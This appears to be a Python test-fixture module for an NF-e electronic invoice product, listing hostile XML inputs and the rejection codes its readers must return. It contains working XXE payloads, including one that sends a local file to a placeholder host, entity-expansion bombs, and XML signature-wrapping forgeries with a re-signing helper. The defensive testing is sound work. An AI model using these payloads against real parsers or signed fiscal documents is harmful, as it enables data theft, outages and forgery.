"""Hostile XML, and the code that each piece must be refused with: forms of reading, of wrapping and of signing.

A case is added here and nowhere else; `test_xml.py` runs it against every reader of the product.
"""

import base64
import codecs
from collections.abc import Callable

from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric.padding import PKCS1v15
from lxml import etree

from chancela.domain.assinatura.certificado import Certificado
from chancela.domain.xml.escrita import DSIG_NS
from chancela.domain.xml.leitura import slice_element

EXFILTRA = (
    b'<!DOCTYPE a [<!ENTITY % f SYSTEM "file:///etc/hostname">'
    b"<!ENTITY % e \"<!ENTITY &#37; s SYSTEM 'http://192.0.2.1/?%f;'>\">%e;%s;]><a/>"
)
RISADAS = (
    b"<!DOCTYPE a [<!ENTITY r0 'ha'>"
    + b"".join(b"<!ENTITY r%d '%s'>" % (n, b"&r%d;" % (n - 1) * 10) for n in range(1, 10))
    + b"]><a>&r9;</a>"
)
BOMBA = b'<!DOCTYPE a [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><a>&b;</a>'
XXE = b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hostname">]><a>&x;</a>'

HOSTIS: tuple[tuple[str, bytes, str], ...] = (
    ("bomba", BOMBA, "06"),
    ("xxe", XXE, "06"),
    ("xxe de parametro", b'<!DOCTYPE a [<!ENTITY % p SYSTEM "http://192.0.2.1/x"> %p;]><a/>', "06"),
    ("dtd externa", b'<!DOCTYPE a SYSTEM "http://192.0.2.1/a.dtd"><a/>', "06"),
    ("doctype vazio", b"<!DOCTYPE a><a/>", "06"),
    ("doctype minusculo", b"<!doctype a><a/>", "06"),
    ("doctype entre comentario e cdata", b"<!--<![CDATA[--><!DOCTYPE a><!--]]>--><a/>", "06"),
    ("doctype entre instrucoes", b"<?x <!-- ?><!DOCTYPE a><?y --> ?><a/>", "06"),
    ("doctype depois de comentario", b"<!-- a --><!DOCTYPE a><a/>", "06"),
    ("doctype em utf-16", b'<?xml version="1.0" encoding="UTF-16"?><a/>'.decode().encode("utf-16"), "02"),
    ("utf-16 sem marca", "<!DOCTYPE a><a/>".encode("utf-16-le"), "02"),
    ("utf-7 declarado", b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE a+AD4-<a/>', "04"),
    ("latin-1 declarado", b'<?xml version="1.0" encoding="ISO-8859-1"?><a>\xe7</a>', "04"),
    ("latin-1 sem dizer", b"<a>\xe7</a>", "02"),
    ("ebcdic", codecs.encode('<?xml version="1.0" encoding="cp037"?><a/>', "cp037"), "02"),
    ("utf-8 longo demais", b"<a>\xc0\xbc!DOCTYPE</a>", "02"),
    ("nulo", b"<a>\x00</a>", "02"),
    ("nulo por referencia", b"<a>&#0;</a>", "05"),
    ("controle", b"<a>\x0b</a>", "05"),
    ("entidade inexistente", b"<a>&nbsp;</a>", "05"),
    ("vazio", b"", "05"),
    ("html", b"<html><body><br></body></html>", "05"),
    ("truncado", b"<a><b>", "05"),
    ("duas raizes", b"<a/><b/>", "05"),
    ("atributo repetido", b'<a b="1" b="2"/>', "05"),
    ("prefixo solto", b"<x:a/>", "05"),
    ("lixo antes", b"x<a/>", "05"),
    ("fundo", b"<a>" * 49 + b"</a>" * 49, "07"),
    ("muito fundo", b"<a>" * 100_000 + b"</a>" * 100_000, "05"),
    ("atributos demais", b"<a " + b" ".join(b'x%d="1"' % i for i in range(40)) + b"/>", "09"),
    ("namespaces demais", b"<a " + b" ".join(b'xmlns:x%d="u"' % i for i in range(1_001)) + b"/>", "09"),
    ("atributo longo", b'<a x="' + b"1" * 5_000 + b'"/>', "09"),
    ("texto longo", b"<a>" + b"1" * 600_000 + b"</a>", "10"),
    ("muitos elementos", b"<a>" + b"<b/>" * 260_000 + b"</a>", "08"),
    ("grande", b"<a>" + b" " * 2_200_000 + b"</a>", "01"),
    ("xxe de arquivo do windows", b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///c:/x.ini">]><a>&x;</a>', "06"),
    ("xxe de pipe", b'<!DOCTYPE a [<!ENTITY x SYSTEM "expect://id">]><a>&x;</a>', "06"),
    ("xxe de jar", b'<!DOCTYPE a [<!ENTITY x SYSTEM "jar:http://192.0.2.1/a!/b">]><a>&x;</a>', "06"),
    ("xxe publica", b'<!DOCTYPE a [<!ENTITY x PUBLIC "-//x" "http://192.0.2.1/x">]><a>&x;</a>', "06"),
    ("xxe em atributo", b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hostname">]><a b="&x;"/>', "06"),
    ("xxe que sai pela rede", EXFILTRA, "06"),
    ("dtd publica", b'<!DOCTYPE a PUBLIC "-//x" "http://192.0.2.1/a.dtd"><a/>', "06"),
    ("dez mil risadas", RISADAS, "06"),
    (
        "quadratica",
        b'<!DOCTYPE a [<!ENTITY x "' + b"x" * 50_000 + b'">]><a>' + b"&x;" * 5_000 + b"</a>",
        "06",
    ),
    ("entidade que se chama", b'<!DOCTYPE a [<!ENTITY x "&y;"><!ENTITY y "&x;">]><a>&x;</a>', "06"),
    ("atributo presumido", b'<!DOCTYPE a [<!ATTLIST a Id ID "NFe1">]><a/>', "06"),
    ("notacao", b'<!DOCTYPE a [<!NOTATION n SYSTEM "http://192.0.2.1/n">]><a/>', "06"),
    ("doctype dentro da raiz", b"<a><!DOCTYPE a></a>", "06"),
    ("entidade solta", b"<!ENTITY x 'y'><a/>", "06"),
    ("secao condicional", b"<![INCLUDE[<!ENTITY x 'y'>]]><a/>", "06"),
    ("utf-32", "<!DOCTYPE a><a/>".encode("utf-32"), "02"),
    ("utf-16 sem declarar, grande", ("<a>" + "x" * 1000 + "</a>").encode("utf-16-be"), "02"),
    ("codificacao inventada", b'<?xml version="1.0" encoding="x-chancela"?><a/>', "04"),
    ("windows-1252", b'<?xml version="1.0" encoding="windows-1252"?><a>\x93</a>', "04"),
    ("substituto em utf-8", b"<a>\xed\xa0\x80</a>", "02"),
    ("acima do unicode", b"<a>\xf4\x90\x80\x80</a>", "02"),
    ("referencia a substituto", b"<a>&#xD800;</a>", "05"),
    ("referencia a controle", b"<a>&#x1;</a>", "05"),
    ("referencia enorme", b"<a>&#" + b"9" * 5_000 + b";</a>", "05"),
    ("nome enorme", b"<" + b"a" * 60_000 + b"/>", "05"),
    ("comentario que nao fecha", b"<a><!-- " + b"-" * 100_000, "06"),
    ("cdata que nao fecha", b"<a><![CDATA[ " + b"]" * 100_000, "06"),
    ("instrucao que nao fecha", b"<a><?x " + b"?" * 100_000, "05"),
    ("tag que nao fecha", b"<a " + b"x" * 100_000, "05"),
    ("versao 1.1", b'<?xml version="1.1"?><a>\x85\x01</a>', "02"),
)
SO_ASSINADO: tuple[tuple[str, bytes, str], ...] = (
    ("comentario", b"<a>1<!-- -->0</a>", "11"),
    ("comentario depois", b"<a/><!-- -->", "11"),
    ("comentario antes", b"<!-- --><a/>", "11"),
    ("instrucao", b"<a><?x y?></a>", "11"),
    ("folha de estilo", b'<?xml version="1.0"?><?xml-stylesheet href="http://192.0.2.1"?><a/>', "11"),
    ("bom", codecs.BOM_UTF8 + b"<a/>", "03"),
    ("comentario que parte um numero", b"<vNF>1<!-- 0 -->0.00</vNF>", "11"),
    ("instrucao que parte um numero", b"<vNF>1<?x?>0.00</vNF>", "11"),
    ("instrucao depois da raiz", b"<a/><?x y?>", "11"),
)


def resign(nfe: bytes, antes: bytes, depois: bytes, certificado: Certificado) -> bytes:
    """The note with another SignedInfo that the key really signed."""
    assert antes in nfe
    documento = nfe.replace(antes, depois, 1)
    informacao = slice_element(documento, "SignedInfo")
    canonica = etree.tostring(
        etree.fromstring(informacao.replace(b"<SignedInfo>", f'<SignedInfo xmlns="{DSIG_NS}">'.encode(), 1)),
        method="c14n",
    )
    valor = base64.b64encode(certificado.chave.sign(canonica, PKCS1v15(), hashes.SHA1()))
    antigo = slice_element(documento, "SignatureValue")
    return documento.replace(antigo, b"<SignatureValue>" + valor + b"</SignatureValue>", 1)


def wrap_in_object(nfe: bytes, alvo: bytes, falso: bytes) -> bytes:
    """Original hidden in an Object of the Signature, forgery in its place."""
    return nfe.replace(alvo, falso, 1).replace(
        b"</Signature>", b"<Object>" + alvo + b"</Object></Signature>", 1
    )


EMBRULHOS: dict[str, tuple[Callable[[bytes, bytes, bytes], bytes], str]] = {
    "object": (wrap_in_object, "ASSINATURA-04"),
    "irmao antes": (lambda n, a, f: n.replace(a, f + a, 1), "ASSINATURA-04"),
    "irmao depois": (lambda n, a, f: n.replace(a, a + f, 1), "ASSINATURA-04"),
    "original dentro do falso": (
        lambda n, a, f: n.replace(a, f.replace(b"</infNFe>", a + b"</infNFe>"), 1),
        "ASSINATURA-04",
    ),
    "falso noutro namespace": (
        lambda n, a, f: n.replace(a, a + f.replace(b"portalfiscal", b"exemplo"), 1),
        "ASSINATURA-04",
    ),
    "original noutro pai": (
        lambda n, a, f: n.replace(a, b"<w>" + a + b"</w>", 1),
        "ASSINATURA-03",
    ),
    "assinatura antes": (
        lambda n, a, f: n.replace(slice_element(n, "Signature"), b"", 1).replace(
            a, slice_element(n, "Signature") + a, 1
        ),
        "ASSINATURA-03",
    ),
    "duas assinaturas": (
        lambda n, a, f: n.replace(b"</NFe>", slice_element(n, "Signature") + b"</NFe>", 1),
        "ASSINATURA-02",
    ),
    "sem assinatura": (lambda n, a, f: n.replace(slice_element(n, "Signature"), b"", 1), "ASSINATURA-01"),
    "id repetido": (
        lambda n, a, f: n.replace(b"<NFe ", b'<NFe ID="NFe35260911222333000181550010000000011123456783" ', 1),
        "ASSINATURA-05",
    ),
    "id trocado": (lambda n, a, f: n.replace(b'Id="NFe35', b'Id="NFe36', 1), "ASSINATURA-06"),
    "uri vazia": (lambda n, a, f: n.replace(b'URI="#NFe', b'URI="" Id="NFe', 1), "ASSINATURA-06"),
    "uri externa": (
        lambda n, a, f: n.replace(b'URI="#NFe', b'URI="http://192.0.2.1/#NFe', 1),
        "ASSINATURA-06",
    ),
    "uri xpointer": (
        lambda n, a, f: n.replace(b'URI="#NFe', b'URI="#xpointer(id(1))NFe', 1),
        "ASSINATURA-06",
    ),
    "duas referencias": (
        lambda n, a, f: n.replace(b"</SignedInfo>", slice_element(n, "Reference") + b"</SignedInfo>", 1),
        "ASSINATURA-06",
    ),
    "conteudo": (lambda n, a, f: n.replace(a, f, 1), "ASSINATURA-09"),
    "comentario que parte o valor": (
        lambda n, a, f: n.replace(b"10.00", b"1<!-- -->0.00", 1),
        "XML-LEITURA-11",
    ),
    "xml:lang em volta": (lambda n, a, f: n.replace(b"<NFe ", b'<NFe xml:lang="pt" ', 1), "ASSINATURA-12"),
    "namespace relativo": (
        lambda n, a, f: n.replace(b"<NFe ", b'<NFe xmlns:x="relativo" ', 1),
        "ASSINATURA-12",
    ),
    "base64 quebrado": (lambda n, a, f: n.replace(b"<DigestValue>", b"<DigestValue>*", 1), "ASSINATURA-12"),
    "chave solta": (
        lambda n, a, f: n.replace(b"<X509Data>", b"<KeyValue></KeyValue><X509Data>", 1),
        "ASSINATURA-12",
    ),
    "dois certificados": (
        lambda n, a, f: n.replace(b"</X509Data>", slice_element(n, "X509Certificate") + b"</X509Data>", 1),
        "ASSINATURA-12",
    ),
    "texto solto": (lambda n, a, f: n.replace(b"<KeyInfo>", b"x<KeyInfo>", 1), "ASSINATURA-12"),
    "certificado ilegivel": (
        lambda n, a, f: n.replace(
            slice_element(n, "X509Certificate"), b"<X509Certificate>AAAA</X509Certificate>"
        ),
        "ASSINATURA-11",
    ),
    "segunda nota depois": (
        lambda n, a, f: n.replace(b"</NFe>", b"</NFe>", 1).replace(a, a, 1) + b"<NFe/>",
        "XML-LEITURA-05",
    ),
    "cdata que esconde a tag": (
        lambda n, a, f: n.replace(b"<vNF>10.00</vNF>", b"<vNF>10.00<![CDATA[</vNF><vNF>]]></vNF>", 1),
        "ASSINATURA-09",
    ),
    "instrucao que parte o valor": (
        lambda n, a, f: n.replace(b"10.00", b"1<?x?>0.00", 1),
        "XML-LEITURA-11",
    ),
    "manifesto": (
        lambda n, a, f: n.replace(b"</SignedInfo>", b"<Manifest></Manifest></SignedInfo>", 1),
        "ASSINATURA-12",
    ),
    "nota dentro de nota": (
        lambda n, a, f: n.replace(a, b"<NFe>" + f + b"</NFe>" + a, 1),
        "ASSINATURA-04",
    ),
    "resumo vazio": (
        lambda n, a, f: n.replace(slice_element(n, "DigestValue"), b"<DigestValue></DigestValue>", 1),
        "ASSINATURA-10",
    ),
    "valor vazio": (
        lambda n, a, f: n.replace(
            slice_element(n, "SignatureValue"), b"<SignatureValue></SignatureValue>", 1
        ),
        "ASSINATURA-10",
    ),
}

ALGORITMOS: tuple[tuple[bytes, bytes, str], ...] = (
    (b"xmldsig#rsa-sha1", b"xmldsig#hmac-sha1", "ASSINATURA-07"),
    (
        b"http://www.w3.org/2000/09/xmldsig#rsa-sha1",
        b"http://www.w3.org/2001/04/xmldsig-more#rsa-sha256",
        "ASSINATURA-07",
    ),
    (
        b"http://www.w3.org/2000/09/xmldsig#sha1",
        b"http://www.w3.org/2001/04/xmlenc#sha256",
        "ASSINATURA-07",
    ),
    (
        b'<CanonicalizationMethod Algorithm="http://www.w3.org/TR/2001/REC-xml-c14n-20010315">',
        b'<CanonicalizationMethod Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#">',
        "ASSINATURA-07",
    ),
    (
        b'#rsa-sha1"></SignatureMethod>',
        b'#rsa-sha1"><HMACOutputLength>0</HMACOutputLength></SignatureMethod>',
        "ASSINATURA-07",
    ),
    (
        b'<Transform Algorithm="http://www.w3.org/2000/09/xmldsig#enveloped-signature"></Transform>',
        b'<Transform Algorithm="http://www.w3.org/TR/1999/REC-xpath-19991116"><XPath>1</XPath></Transform>',
        "ASSINATURA-07",
    ),
    (
        b'<Transform Algorithm="http://www.w3.org/2000/09/xmldsig#enveloped-signature"></Transform>',
        b'<Transform Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116"></Transform>',
        "ASSINATURA-08",
    ),
    (
        b'<Transform Algorithm="http://www.w3.org/2000/09/xmldsig#enveloped-signature"></Transform>',
        b"",
        "ASSINATURA-08",
    ),
)
